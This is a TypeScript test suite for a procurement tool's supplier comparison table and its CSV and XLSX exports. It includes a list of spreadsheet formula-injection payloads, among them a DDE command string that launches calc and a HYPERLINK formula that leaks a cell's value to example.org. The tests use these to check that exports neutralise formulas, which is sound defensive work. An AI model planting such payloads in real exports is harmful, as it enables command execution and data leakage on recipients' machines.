/** The suppliers of one tender side by side, and the files in which a committee takes them home. */
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  csvOf,
  portfolioTable,
  tenderOf,
  xlsxOf,
  type Candidate,
  type Table,
} from '../../src/exchange/portfolio/index.ts';
import { loadCatalogue, translator, type Translator } from '../../src/locale/index.ts';
import { fold, type Details } from '../../src/record/index.ts';
import { parseCsv } from '../support/csv.ts';
import { goodSupplier, type Scenario } from '../support/scenario.ts';

const words: Record<string, Translator> = {};
beforeAll(async () => {
  for (const language of ['en', 'zh'] as const)
    words[language] = translator(
      language,
      await loadCatalogue(language, 'findings'),
      await loadCatalogue(language, 'follow'),
    );
});

function candidate(scenario: Scenario, name: string, more: Partial<Details['subject']> = {}): Candidate {
  const { details } = fold(scenario.record);
  scenario.happens({
    type: 'described',
    details: { ...details, subject: { ...details.subject, name, ...more } },
  });
  return { record: scenario.record, assessment: fold(scenario.record), findings: scenario.findings() };
}

const tableOf = (candidates: Candidate[], on = '2026-11-24', language = 'en'): Table =>
  portfolioTable(candidates, on, words[language] ?? (undefined as never));

/** By supplier and key of the column. */
function cell(table: Table, supplier: string, key: string): unknown {
  const at = table.columns.findIndex((column) => column.key === key);
  return table.rows.find(([name]) => name === supplier)?.[at];
}

describe('three suppliers of one tender', () => {
  const held = () =>
    goodSupplier()
      .says('rec10c.identity-documents', 'no', { grade: 'E3' })
      .happens({
        type: 'action-updated',
        update: {
          key: 'rec10c.identity-documents.obtain-evidence',
          state: 'done',
          on: '2026-11-24',
          by: { name: 'Mei Lin', role: '' },
          note: 'seen',
        },
      });
  const all = (): Candidate[] => [
    candidate(held(), 'Übertuch AG'),
    candidate(goodSupplier(), 'Zebra Ltd'),
    candidate(goodSupplier(), 'atlas weaving'),
  ];

  it('stand in the order of their names, whatever was found', () => {
    expect(tableOf(all()).rows.map(([name]) => name)).toEqual(['atlas weaving', 'Übertuch AG', 'Zebra Ltd']);
  });

  it('have a column for each of the nine recommendations, in the order of the report', () => {
    const keys = tableOf(all()).columns.map(({ key }) => key);
    expect(keys.filter((key) => key.startsWith('recommendation-'))).toEqual(
      ['10(a)', '10(b)', '10(c)', '11', '12', '13', '14', '15', '16'].map((id) => `recommendation-${id}`),
    );
  });

  it('show a trigger as such: no cell makes a number of it', () => {
    const table = tableOf(all());
    expect(cell(table, 'Übertuch AG', 'triggers')).toMatch(/^ZT-B3 \(/);
    expect(cell(table, 'Zebra Ltd', 'triggers')).toBe('');
    expect(
      table.columns
        .filter((_, at) => table.rows.some((row) => typeof row[at] === 'number'))
        .map(({ key }) => key),
    ).toEqual(['open-actions', 'overdue-actions']);
  });

  it('count what is open and overdue on the day that is asked for', () => {
    const [early, late] = [tableOf(all()), tableOf(all(), '2029-01-01')];
    const open = cell(early, 'Übertuch AG', 'open-actions');
    expect(open).toBeGreaterThan(0);
    expect(cell(early, 'Übertuch AG', 'overdue-actions')).toBe(0);
    expect(cell(late, 'Übertuch AG', 'overdue-actions')).toBe(open);
    expect(cell(early, 'Zebra Ltd', 'next-deadline')).toBeNull();
  });

  it('are worded in Chinese as in English', () => {
    const table = tableOf(all(), '2026-11-24', 'zh');
    expect(table.title).toBe('供应商并列对照');
    expect(cell(table, 'Zebra Ltd', 'recommendation-11')).toMatch(/\p{Script=Han}/u);
  });
});

describe('a tender', () => {
  const about = (buyer: string, reference: string, title: string) =>
    tenderOf({ procurement: { buyer, reference, title, value: '' } });

  it('is known by buyer and reference, or by the title where there is none', () => {
    expect(about('City of Alder', 'T-1', 'Uniforms')).toBe(about('city of  alder', 't-1', 'Work clothing'));
    expect(about('City of Alder', '', 'Uniforms')).toBe(about('City of Alder', ' ', 'uniforms'));
    expect(about('City of Alder', 'T-1', 'Uniforms')).not.toBe(about('City of Birch', 'T-1', 'Uniforms'));
    expect(about('City of Alder', '', '')).toBe('');
  });
});

const table = (rows: Table['rows']): Table => ({
  title: 'Suppliers',
  columns: (rows[0] ?? []).map((_, at) => ({ key: String(at), header: `h${String(at)}` })),
  rows,
});

/** What a supplier could call itself. */
const HOSTILE = [
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  'a";=1+1;"',
  "'=1+1",
  'x,=1+1',
  'x\r\n=1+1',
  "=cmd|' /C calc'!A0",
];
const anyText = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(...HOSTILE),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', ';', '\n'), fc.string())
    .map((two) => two.join('')),
);

describe('a table as CSV', () => {
  it('begins with the mark of UTF-8, and ends every line as RFC 4180 says', () => {
    expect(csvOf(table([['a', 1]]))).toBe('\uFEFF"h0","h1"\r\n"a",1\r\n');
  });

  it('is read back as it was written: numbers and days as such, texts but for the apostrophe before what could be a formula', () => {
    const anyCell = fc.oneof(
      anyText,
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constant({ day: '2026-11-23' }),
      fc.constant(null),
    );
    const anyRows = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(anyCell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
      );
    fc.assert(
      fc.property(anyRows, (rows) => {
        const [, ...read] = parseCsv(csvOf(table(rows)).slice(1));
        const expected = rows.map((cells) => cells.map(plain));
        expect(
          read.map((cells, y) =>
            cells.map((text, x) => (expected[y]?.[x] === text.slice(1) ? text.slice(1) : text)),
          ),
        ).toEqual(expected);
      }),
      { numRuns: 500 },
    );
  });

  it('lets no text begin with what a spreadsheet would run', () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const [, [read = ''] = []] = parseCsv(csvOf(table([[text]])).slice(1));
        expect(read).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
      }),
      { numRuns: 500 },
    );
  });

  it.each(HOSTILE)('keeps %j in one cell, whatever stands for the end of a cell elsewhere', (text) => {
    const [, line = ''] = csvOf(table([[text]])).split('"h0"\r\n');
    expect(line).toMatch(/^"(?:[^"]|"")*"\r\n$/u);
    expect(line.slice(1)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
  });

  it('leaves numbers alone, also those below zero', () => {
    expect(csvOf(table([[-5, 0.5]]))).toContain('-5,0.5\r\n');
  });
});

const plain = (one: Table['rows'][number][number]): string => {
  if (one === null) return '';
  return typeof one === 'object' ? one.day : String(one);
};

describe('a table as a spreadsheet', () => {
  const parts = async (rows: Table['rows']) => {
    const files = unzipSync(await xlsxOf(table(rows)));
    const part = (name: string): string => strFromU8(files[name] ?? new Uint8Array());
    return {
      sheet: part('xl/worksheets/sheet1.xml'),
      strings: part('xl/sharedStrings.xml'),
      names: Object.keys(files),
    };
  };

  it('types every text as text: nothing in it is a formula', async () => {
    const { sheet, strings, names } = await parts(HOSTILE.map((text) => [text]));
    expect(names).toContain('[Content_Types].xml');
    expect(sheet).not.toMatch(/<f[ >]/);
    const cells = [...sheet.matchAll(/<c [^>]*>/g)].map(([tag]) => tag);
    expect(cells).toHaveLength(HOSTILE.length + 1);
    for (const tag of cells) expect(tag).toMatch(/ t="s"/);
    expect(unescaped(strings)).toContain('=HYPERLINK("http://example.org?x="&A1,"click")');
  });

  it('keeps numbers as numbers and days as dates', async () => {
    const { sheet } = await parts([[-5, { day: '2026-11-23' }, null]]);
    expect(sheet).toMatch(/<c r="A2"(?! t="s")[^>]*><v>-5<\/v>/);
    // Days since the end of 1899.
    expect(sheet).toMatch(/<c r="B2"[^>]*><v>46349<\/v>/);
  });

  it('is well-formed whatever a name consists of', async () => {
    const { strings } = await parts([['\u0000\u0008\ud800<&>\u{1F98A}\uFFFE']]);
    expect(strings).toContain('&lt;&amp;&gt;\u{1F98A}');
    // eslint-disable-next-line no-control-regex -- what XML does not have
    expect(strings).not.toMatch(/[\u0000-\u0008\uFFFE]/);
  });
});

const unescaped = (xml: string): string =>
  xml
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');
